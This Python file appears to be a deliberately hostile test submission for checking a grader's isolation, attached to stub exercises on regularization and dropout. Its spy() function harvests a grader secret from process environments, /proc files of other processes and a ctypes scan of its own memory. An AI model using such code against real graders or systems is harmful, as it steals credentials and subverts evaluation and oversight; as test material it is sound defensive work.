"""Hostile submission: looks for the grader's secrets in its environment and its memory.

`spy(name)` returns every route to an environment variable called `name` (e.g.
GRADER_SECRET_TOKEN) that a forked child has: os.environ, /proc/self/environ (the block the
process was started with), the environ file of every process it can see in /proc (or, where
/proc cannot be listed, of pids 1 to 400 and its parent, tried one by one), and its
own memory: it reads every writable mapping listed in /proc/self/maps (heap, stack, what it
inherited) and returns the 60 bytes after each place where "<name>=" occurs (the needle it
searches with is one of those places, followed by something else). It also returns the whole
os.environ, and sys.argv and /proc/self/cmdline, which in a child forked from a batch worker
would name the worker's folders. The grader must let none of these routes show the secret's
value or the grader's folders.
"""

import ctypes
import os
import sys

import torch
import torch.nn as nn

CHUNK = 16 * 2**20


def spy(name):
    needle = (name + "=").encode()
    seen = {"environ": dict(os.environ), "proc self environ": _read("/proc/self/environ"), "proc environ": {},
            "argv": sys.argv + sys.orig_argv, "cmdline": _read("/proc/self/cmdline")}
    try:
        pids = [entry for entry in os.listdir("/proc") if entry.isdigit()]
    except OSError:
        pids = [str(pid) for pid in range(1, 401)] + [str(os.getppid())]
    for pid in pids:
        seen["proc environ"][pid] = _read(f"/proc/{pid}/environ")
    seen["memory"], seen["scanned bytes"] = _scan(needle)
    return seen


def _read(path):
    try:
        with open(path, "rb") as file:
            return file.read().decode(errors="replace")
    except OSError as error:
        return type(error).__name__


def _scan(needle):
    found, scanned = [], 0
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    for fields in regions:
        start, end = (int(value, 16) for value in fields[0].split("-"))
        if not fields[1].startswith("rw") or (len(fields) > 5 and fields[5] == "[vvar]"):
            continue
        for offset in range(start, end, CHUNK):
            chunk = ctypes.string_at(offset, min(CHUNK, end - offset))
            scanned += len(chunk)
            position = chunk.find(needle)
            while position >= 0 and len(found) < 1000:
                found.append(chunk[position:position + len(needle) + 60].decode(errors="replace"))
                position = chunk.find(needle, position + 1)
            del chunk
    return found, scanned


def l1_reg(model):
    return sum((param.abs().sum() for param in model.parameters()), torch.zeros(()))


def l2_reg(model):
    raise NotImplementedError("Complete the l2_reg function")


def dropout(x, p, training=True):
    raise NotImplementedError("Complete the dropout function")


class Dropout(nn.Module):
    def __init__(self, p=0.5):
        super().__init__()
        self.p = p

    def forward(self, x):
        raise NotImplementedError("Complete the Dropout.forward function")


def regularized_loss(output, target, model, criterion, lambda1=0.0, lambda2=0.0):
    raise NotImplementedError("Complete the regularized_loss function")
